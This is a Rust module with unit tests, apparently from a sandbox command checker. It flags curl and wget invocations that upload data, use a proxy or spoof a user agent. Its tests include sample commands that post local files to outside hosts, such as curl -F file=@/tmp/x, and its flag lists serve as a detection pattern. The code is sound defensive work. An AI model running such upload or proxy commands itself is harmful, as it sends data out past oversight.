//! What a download tool's invocation does beyond fetching a page into the
//! script: sending data (`curl -d`, `-F`, `-T`, `-X POST`, `wget
//! --post-data`), routing through a proxy (`--proxy`, `http_proxy=`), or
//! posing as another client (a browser's user agent). Saving to disk is
//! read by the caller, which already knows where the output goes.
//!
//! Pure functions over a command's evaluated option words; the walker
//! decides when to call them and turns the answer into a signal. Nothing
//! here looks at URLs or hosts (the sandbox has no network, so a plain
//! fetch fails there anyway; what the code does with the transfer is what
//! can hurt).

/// Environment variables that send curl's and wget's traffic through a proxy.
pub(super) const PROXY_VARS: &[&str] = &[
    "http_proxy",
    "https_proxy",
    "HTTP_PROXY",
    "HTTPS_PROXY",
    "ALL_PROXY",
    "all_proxy",
    "ftp_proxy",
];

/// Whether the options of `name` send data, use a proxy or impersonate
/// another client.
pub(super) fn beyond_fetch(name: &str, texts: &[String]) -> bool {
    let mut it = texts.iter().peekable();
    while let Some(t) = it.next() {
        let t = t.as_str();
        let (opt, glued) = match t.split_once('=') {
            Some((o, v)) if o.starts_with("--") => (o, Some(v)),
            _ => (t, None),
        };
        let next = it.peek().map(|v| v.as_str());
        let value = || glued.or(next).map(str::to_string);
        match (name, opt) {
            ("curl", "-d" | "--data" | "--data-binary" | "--data-raw" | "--data-urlencode")
            | ("curl", "--data-ascii" | "--json" | "-F" | "--form" | "--form-string")
            | ("curl", "-T" | "--upload-file" | "-x" | "--proxy" | "--preproxy")
            | ("curl", "--socks4" | "--socks4a" | "--socks5" | "--socks5-hostname")
            | ("wget", "--post-data" | "--post-file" | "--body-data" | "--body-file")
            | ("wget", "--proxy-user" | "--proxy-password") => return true,
            ("curl", "-X" | "--request") | ("wget", "--method") | ("lwp-request", "-m")
                if value().is_some_and(|m| sends_method(&m)) =>
            {
                return true
            }
            ("curl", "-A" | "--user-agent") | ("wget", "-U" | "--user-agent")
                if value().is_some_and(|a| impersonates(name, &a)) =>
            {
                return true
            }
            ("curl", "-H" | "--header") | ("wget", "--header")
                if value().is_some_and(|h| {
                    h.to_ascii_lowercase()
                        .strip_prefix("user-agent:")
                        .is_some_and(|a| impersonates(name, a))
                }) =>
            {
                return true
            }
            ("wget", "-e" | "--execute")
                if value().is_some_and(|e| e.replace(' ', "").starts_with("use_proxy=on")) =>
            {
                return true
            }
            ("curl", s) if s.starts_with("-X") && s.len() > 2 && sends_method(&s[2..]) => {
                return true
            }
            // Bundled short options: `-sd @file`, `-kx host:3128`.
            ("curl", s)
                if s.starts_with('-')
                    && !s.starts_with("--")
                    && s.len() > 2
                    && s.ends_with(['d', 'F', 'T', 'x']) =>
            {
                return true
            }
            _ => {}
        }
    }
    false
}

fn sends_method(m: &str) -> bool {
    matches!(
        m.trim().to_ascii_uppercase().as_str(),
        "POST" | "PUT" | "PATCH" | "DELETE"
    )
}

/// A user agent that claims to be a browser or a different tool than the
/// one sending it: traffic made to look like something else.
fn impersonates(tool: &str, agent: &str) -> bool {
    let a = agent.trim().to_ascii_lowercase();
    let browser = [
        "mozilla/", "opera/", "chrome/", "safari/", "msie", "trident/", "edge/",
    ]
    .iter()
    .any(|b| a.contains(b));
    let other_tool = ["curl", "wget", "fetch", "python-requests", "go-http-client"]
        .iter()
        .any(|t| *t != tool && a.starts_with(t));
    browser || other_tool
}

#[cfg(test)]
mod tests {
    use super::*;

    fn v(s: &str) -> Vec<String> {
        s.split_whitespace().map(str::to_string).collect()
    }

    #[test]
    fn plain_fetches_are_not_beyond_fetch() {
        assert!(!beyond_fetch(
            "curl",
            &v("-A curl -s https://example.com/api")
        ));
        assert!(!beyond_fetch(
            "curl",
            &v("-fsSL -H Accept:application/json https://x")
        ));
        assert!(!beyond_fetch("wget", &v("-qO- https://example.com")));
        assert!(!beyond_fetch("curl", &v("-X GET https://x")));
    }

    #[test]
    fn uploads_proxies_and_impersonation_are() {
        assert!(beyond_fetch(
            "curl",
            &v("-s -F file=@/tmp/x https://hooks.example")
        ));
        assert!(beyond_fetch("curl", &v("-XPOST data.example.com")));
        assert!(beyond_fetch("curl", &v("-sd @/tmp/x https://x")));
        assert!(beyond_fetch("curl", &v("--data-raw={} https://x")));
        assert!(beyond_fetch(
            "curl",
            &v("-skI --proxy http://127.0.0.1:8080 http://x")
        ));
        assert!(beyond_fetch("wget", &v("--post-data=msg=hi https://x")));
        assert!(beyond_fetch("wget", &v("-e use_proxy=on http://x")));
        assert!(beyond_fetch("curl", &v("-A Opera/8.81 www.example.com")));
        assert!(beyond_fetch("curl", &v("-A Wget/1.9 www.example.com")));
        assert!(beyond_fetch(
            "wget",
            &v("--header User-Agent:Mozilla/5.0 http://x")
        ));
    }
}
